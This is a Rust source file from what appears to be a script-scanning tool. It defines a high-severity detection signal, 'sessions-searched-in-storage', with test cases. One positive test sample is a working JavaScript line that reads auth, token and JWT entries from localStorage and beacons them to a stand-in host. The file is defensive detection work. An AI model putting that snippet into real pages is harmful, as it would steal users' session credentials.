//! `sessions-searched-in-storage`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "sessions-searched-in-storage",
    description: "The script searches this page's stored data for sessions and sends it to another host.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::SessionPattern]), one(&[Atom::AllStorageSent])],
    within: 300,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "for(let i=0;i<localStorage.length;i++){const k=localStorage.key(i);if(/token|auth|jwt/i.test(k))navigator.sendBeacon('https://c.example/t',k+localStorage.getItem(k))}",
        ],
        without: &[
            "for(const k of Object.keys(localStorage))if(/token|auth/.test(k))localStorage.removeItem(k)",
            "fetch('https://api.example/me',{headers:{authorization:localStorage.getItem('token')}})",
        ],
    },
};
